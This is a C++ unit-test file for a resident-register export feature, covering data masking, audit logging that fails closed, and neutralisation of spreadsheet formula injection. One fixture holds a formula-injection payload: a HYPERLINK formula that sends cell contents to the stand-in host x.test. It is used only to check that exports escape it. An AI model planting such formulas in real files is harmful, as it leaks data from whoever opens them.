// Exports on SQLite with the real audit chain: masked and revealed files, formula injection,
// and the audit records (fail closed).
#include "modules/residents/import/resident_export.h"

#include <gtest/gtest.h>

#include "crypto/crypto.h"
#include "modules/audit/sql/audit_migrations.h"
#include "modules/audit/sql/audit_sql.h"
#include "modules/residents/import/import_validator.h"
#include "modules/residents/import/sql/import_migrations.h"
#include "modules/residents/import/sql/sql_import_store.h"
#include "modules/residents/import/testing/register_files.h"
#include "modules/residents/sql/resident_migrations.h"
#include "modules/residents/sql/sql_resident_store.h"
#include "modules/residents/testing/fake_audit_sink.h"
#include "storage/sqlite/testing.h"
#include "tabular/csv.h"
#include "tabular/xlsx.h"

namespace gz::residents::import {
namespace {

constexpr std::string_view kVillage = "420114001205";
const std::string kInjection = "=HYPERLINK(\"http://x.test/?\"&A1,\"点我\")";

class FailingBatch final : public AuditBatchWriter {
 public:
  Status AppendAll(std::span<const access::AuditEvent>) override { return Unavailable("audit/unavailable", "test"); }
};

class ExportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(crypto::Initialize().ok());
    auto cipher = crypto::FieldCipher::Create(crypto::KeyRing::Generate());
    ASSERT_TRUE(cipher.ok());
    cipher_.emplace(std::move(cipher).value());
    auto db = storage::sqlite::OpenTemporarySqliteForTest();
    ASSERT_TRUE(db.ok());
    db_ = std::move(db).value();
    std::vector<storage::Migration> all;
    for (const auto& m : audit::AuditMigrations()) all.push_back(m);
    for (const auto& m : ResidentMigrations()) all.push_back(m);
    for (const auto& m : ImportMigrations()) all.push_back(m);
    ASSERT_TRUE(storage::ApplyMigrations(*db_, all, clock_).ok());
    residents_.emplace(*db_, audit::AppendAuditInTx);
    registry_.emplace(*residents_, *cipher_, clock_);
    masked_.emplace(*residents_, *registry_, *cipher_);
    batch_.emplace(*db_, *cipher_, clock_, nullptr, audit::AppendAuditInTx);
    exporter_.emplace(*registry_, *residents_, *masked_, *cipher_, sink_, *batch_, clock_);

    const std::string head = testing::SyntheticId("420102", {1960, 5, 5}, 999);
    const std::string spouse = testing::SyntheticId("420102", {1962, 6, 6}, 998);
    NewHousehold h{std::string(kVillage), {"3组45号"}, {}};
    h.members.push_back({{kInjection, head, std::string("15400003001"), {"low_income"}}, Relation::kHead});
    h.members.push_back({{"李秀英", spouse, std::nullopt}, Relation::kSpouse});
    ASSERT_TRUE(registry_->CreateHousehold(h).ok());
    head_id_ = head;
  }

  access::Principal Caller() {
    access::Principal p;
    p.self.account_id = 5;
    p.self.grants = {{1, access::Role::kVillageCadre, std::string(kVillage)}};
    p.request_id = "req-export";
    return p;
  }

  int64_t AuditCount(std::string_view where) {
    int64_t n = -1;
    EXPECT_TRUE(db_->Read([&](storage::Tx& tx) -> Status {
                     GZ_ASSIGN_OR_RETURN(storage::ResultSet rs,
                                         tx.Query("SELECT COUNT(*) FROM audit_records WHERE " + std::string(where)));
                     n = rs.rows[0].Int(0);
                     return Status::Ok();
                   }).ok());
    return n;
  }

  FakeClock clock_{WallTime(std::chrono::seconds(1795795200))};  // 2026-11-28 in China
  std::optional<crypto::FieldCipher> cipher_;
  std::unique_ptr<storage::Db> db_;
  std::optional<SqlResidentStore> residents_;
  std::optional<ResidentRegistry> registry_;
  std::optional<MaskedRegister> masked_;
  std::optional<SqlImportStore> batch_;
  FakeAuditSink sink_;
  std::optional<ResidentExporter> exporter_;
  std::string head_id_;
};

TEST_F(ExportTest, MaskedCsvShowsMaskedValuesOnlyAndIsAudited) {
  ExportRequest request;
  Result<ExportFile> file = exporter_->Export(Caller(), kVillage, request);
  ASSERT_TRUE(file.ok()) << file.status().ToString();
  EXPECT_EQ(file->residents, 2);
  EXPECT_EQ(file->content_type, "text/csv; charset=utf-8");
  EXPECT_EQ(file->file_name, "residents-420114001205-20261128-masked.csv");
  EXPECT_EQ(file->bytes.find(head_id_), std::string::npos);
  EXPECT_EQ(file->bytes.find("李秀英"), std::string::npos);
  EXPECT_EQ(file->bytes.find("15400003001"), std::string::npos);
  EXPECT_EQ(file->bytes.find("3组45号"), std::string::npos);
  Result<tabular::Table> t = tabular::ReadCsv(file->bytes, {});
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  EXPECT_EQ(t->header.cells[4].text, "公民身份号码");
  ASSERT_EQ(t->rows.size(), 2u);
  EXPECT_EQ(t->rows[0].cells[0].text, "1");
  EXPECT_EQ(t->rows[0].cells[4].text, "420102********" + head_id_.substr(14));
  EXPECT_EQ(t->rows[0].cells[6].text, "154****3001");
  EXPECT_EQ(t->rows[0].cells[5].text, "户主");
  EXPECT_EQ(t->rows[1].cells[1].text, "李**");
  EXPECT_EQ(t->rows[0].cells[7].text, "3组**号");
  EXPECT_EQ(t->width(), 8u);  // no flags in a masked file
  ASSERT_EQ(sink_.events().size(), 1u);
  EXPECT_EQ(sink_.events()[0].action, "residents.export");
  EXPECT_EQ(sink_.events()[0].details, "{\"format\":\"csv\",\"masked\":true,\"count\":2}");
  EXPECT_EQ(sink_.events()[0].request_id, "req-export");
}

TEST_F(ExportTest, RevealedXlsxNeutralisesFormulasAndAuditsEveryReadInOneTransaction) {
  ExportRequest request;
  request.format = ExportFormat::kXlsx;
  request.purpose = "年度低保复核";
  Result<ExportFile> file = exporter_->Export(Caller(), kVillage, request);
  ASSERT_TRUE(file.ok()) << file.status().ToString();
  EXPECT_EQ(file->file_name, "residents-420114001205-20261128.xlsx");
  Result<tabular::Table> t = tabular::ReadXlsx(file->bytes, {});
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  ASSERT_EQ(t->rows.size(), 2u);
  // The name comes out as text that no spreadsheet evaluates.
  EXPECT_EQ(t->rows[0].cells[1].text, "'" + kInjection);
  EXPECT_EQ(file->bytes.find("<f>"), std::string::npos);
  EXPECT_EQ(t->rows[0].cells[4].text, head_id_);
  EXPECT_EQ(t->rows[0].cells[3].text, "1960-05-05");
  EXPECT_EQ(t->rows[0].cells[8].text, "低保");
  EXPECT_EQ(t->rows[0].cells[7].text, "3组45号");
  // Two residents and one household read, plus the export itself: all in the chain, with the purpose.
  EXPECT_EQ(AuditCount("action = 'residents.reveal' AND object_type = 'resident' AND purpose = '年度低保复核'"), 2);
  EXPECT_EQ(AuditCount("action = 'residents.reveal' AND object_type = 'household'"), 1);
  EXPECT_EQ(AuditCount("action = 'residents.export' AND purpose = '年度低保复核' AND details LIKE '%\"count\":2%'"), 1);
  EXPECT_TRUE(sink_.events().empty());
}

TEST_F(ExportTest, RevealedCsvNeutralisesFormulasToo) {
  ExportRequest request;
  request.purpose = "核对户籍信息";
  request.english = true;
  Result<ExportFile> file = exporter_->Export(Caller(), kVillage, request);
  ASSERT_TRUE(file.ok()) << file.status().ToString();
  Result<tabular::Table> t = tabular::ReadCsv(file->bytes, {});
  ASSERT_TRUE(t.ok());
  EXPECT_EQ(t->header.cells[1].text, "name");
  EXPECT_EQ(t->rows[0].cells[1].text, "'" + kInjection);
  EXPECT_EQ(t->rows[0].cells[5].text, "head");
  EXPECT_EQ(t->rows[0].cells[8].text, "Minimum living allowance (dibao)");
  EXPECT_EQ(file->bytes.find("\r\n=HYPERLINK"), std::string::npos);
  EXPECT_EQ(file->bytes.find(",=HYPERLINK"), std::string::npos);
}

TEST_F(ExportTest, NoFileLeavesWhenTheAuditCannotBeWritten) {
  FailingBatch failing;
  ResidentExporter exporter(*registry_, *residents_, *masked_, *cipher_, sink_, failing, clock_);
  ExportRequest request;
  request.purpose = "核对户籍信息";
  Result<ExportFile> file = exporter.Export(Caller(), kVillage, request);
  ASSERT_FALSE(file.ok());
  EXPECT_EQ(file.status().slug(), "residents/read-not-audited");
  sink_.Fail(true);
  file = exporter_->Export(Caller(), kVillage, ExportRequest{});
  ASSERT_FALSE(file.ok());
  EXPECT_EQ(file.status().slug(), "residents/read-not-audited");
}

TEST_F(ExportTest, AnExportReimportsAsUnchanged) {
  ExportRequest request;
  request.purpose = "核对户籍信息";
  Result<ExportFile> file = exporter_->Export(Caller(), kVillage, request);
  ASSERT_TRUE(file.ok());
  RegistryLookup lookup(*registry_, *residents_, *cipher_);
  Result<ValidatedImport> v =
      ValidateFile(file->bytes, ValidationContext{std::string(kVillage), {2026, 11, 28}, ""}, {}, lookup, {});
  ASSERT_TRUE(v.ok()) << v.status().ToString();
  // The neutralised name no longer matches (a clerk would have to fix it); the other row is unchanged.
  EXPECT_EQ(v->report.rows[0].outcome, Outcome::kReject);
  EXPECT_EQ(v->report.rows[1].outcome, Outcome::kUnchanged);
}

TEST_F(ExportTest, ALimitOnTheNumberOfResidents) {
  ResidentExporter small(*registry_, *residents_, *masked_, *cipher_, sink_, *batch_, clock_, 1);
  EXPECT_EQ(small.Export(Caller(), kVillage, ExportRequest{}).status().slug(), "residents-import/too-many-residents");
  ExportRequest request;
  request.purpose = "核对户籍信息";
  EXPECT_EQ(small.Export(Caller(), kVillage, request).status().code(), Code::kTooLarge);
}

}  // namespace
}  // namespace gz::residents::import
